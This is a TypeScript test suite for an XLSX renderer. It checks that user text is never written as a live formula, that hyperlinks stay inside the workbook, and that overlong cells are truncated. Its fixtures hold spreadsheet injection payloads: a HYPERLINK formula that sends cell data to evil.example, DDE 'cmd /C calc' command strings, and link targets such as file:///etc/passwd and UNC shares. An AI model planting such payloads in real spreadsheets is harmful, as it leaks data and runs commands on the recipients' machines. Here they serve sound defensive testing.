import fc from "fast-check";
import type { Cell, WorkbookPlan } from "../../src/core/workbook";
import { EXCEL_CELL_MAX_CHARS, keyRef } from "../../src/core/workbook";
import { renderXlsx } from "../../src/xlsx";
import { allFormulas, hyperlinks, loadWorkbook, textCells } from "../helpers/xlsx-read";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"нажми")',
  "=1+1",
  "+7 (812) 555-01-02",
  "-5",
  "@SUM(A1:A2)",
  "\t=cmd|' /C calc'!A0",
  "\r=2*3",
  "=cmd|' /C notepad'!'A1'",
  "==",
  "-",
];

function plan(cells: Cell[][]): WorkbookPlan {
  return {
    sheets: [
      { key: "inj.block", name: "Блок", blocks: [{ at: "A1", rows: cells }] },
      { key: "inj.table", name: "Таблица", tables: [{ name: "T_inj", at: "A1", columns: [{ header: "=HEADER()" }, { header: "+x" }], rows: cells.map((r) => r.slice(0, 2)) }] },
    ],
  };
}

describe("formula injection: user text is always text", () => {
  it.each(HOSTILE)("writes %j as a text cell, in blocks, tables and link texts", async (text) => {
    const bytes = await renderXlsx(plan([[text, text, { link: keyRef("inj.block", "A1"), text }]]));
    expect(await allFormulas(bytes)).toEqual([]);
    expect([...(await textCells(bytes, "Блок"))].sort()).toEqual(["A1", "B1", "C1"]);
    const wb = await loadWorkbook(bytes);
    // Excel keeps line breaks as LF: a leading CR arrives as LF, still text.
    const kept = text.replace(/\r/g, "\n");
    expect(wb.getWorksheet("Блок")!.getCell("A1").value).toBe(kept);
    expect(wb.getWorksheet("Таблица")!.getCell("A2").value).toBe(kept);
    expect(wb.getWorksheet("Таблица")!.getCell("A1").value).toBe("=HEADER()");
  });

  it("property: random strings with formula-like prefixes never become formulas", async () => {
    const prefix = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "");
    const text = fc.tuple(prefix, fc.string({ maxLength: 40 })).map(([p, s]) => p + s);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(text, { minLength: 1, maxLength: 3 }), { minLength: 1, maxLength: 4 }), async (rows) => {
        const bytes = await renderXlsx(plan(rows));
        expect(await allFormulas(bytes)).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });

  it("keeps exactly the formulas the plan made, and no others", async () => {
    const bytes = await renderXlsx(plan([["=A2", { f: "SUM(1,2)", v: 3 }, "+A1"]]));
    const found = await allFormulas(bytes);
    expect(found).toEqual([
      { sheet: "Блок", ref: "B1", formula: "SUM(1,2)" },
      { sheet: "Таблица", ref: "B2", formula: "SUM(1,2)" },
    ]);
  });
});

describe("hyperlinks point only inside the workbook", () => {
  const targets: [string, boolean][] = [
    [keyRef("inj.block", "B2"), true],
    ["'Блок'!$C$3", true],
    ["#'Таблица'!A1", true],
    ["D4", true],
    ["http://evil.example/", false],
    ["https://example.org/#'Блок'!A1", false],
    ["file:///etc/passwd", false],
    ["mailto:a@b.c", false],
    ["'Чужой лист'!A1", false],
    ["\\\\server\\share\\x.xlsx", false],
    ["[other.xlsx]Лист1!A1", false],
  ];

  it.each(targets)("link to %j → internal link written: %s", async (target, kept) => {
    const bytes = await renderXlsx(plan([[{ link: target, text: "ссылка" }]]));
    const { links: all, externalRels } = await hyperlinks(bytes);
    const links = all.filter((l) => l.sheet === "Блок");
    expect(externalRels).toEqual([]);
    expect(links.every((l) => l.relId === undefined && l.location !== undefined)).toBe(true);
    expect(links.length).toBe(kept ? 1 : 0);
    const ws = (await loadWorkbook(bytes)).getWorksheet("Блок")!;
    expect(ws.getCell("A1").text).toBe("ссылка");
  });

  it("resolves a link to a renamed sheet through its key", async () => {
    const p = plan([[{ link: keyRef("inj.table", "A2"), text: "к таблице" }]]);
    p.sheets[1] = { ...p.sheets[1], name: "Блок" };
    const bytes = await renderXlsx(p);
    const { links } = await hyperlinks(bytes);
    expect(links.filter((l) => l.sheet === "Блок")).toEqual([{ sheet: "Блок", ref: "A1", location: "'Блок (2)'!A2", relId: undefined }]);
  });
});

describe("limits", () => {
  it("truncates a cell over 32,767 characters and says so", async () => {
    const long = "абв ".repeat(10000);
    const bytes = await renderXlsx(plan([[long, "=" + long]]));
    const ws = (await loadWorkbook(bytes)).getWorksheet("Блок")!;
    const text = String(ws.getCell("A1").value);
    expect(text.length).toBeLessThanOrEqual(EXCEL_CELL_MAX_CHARS);
    expect(text).toMatch(/текст сокращён: 40000 симв/);
    expect(text.startsWith("абв абв")).toBe(true);
    expect(String(ws.getCell("B1").value).length).toBeLessThanOrEqual(EXCEL_CELL_MAX_CHARS);
  });
});
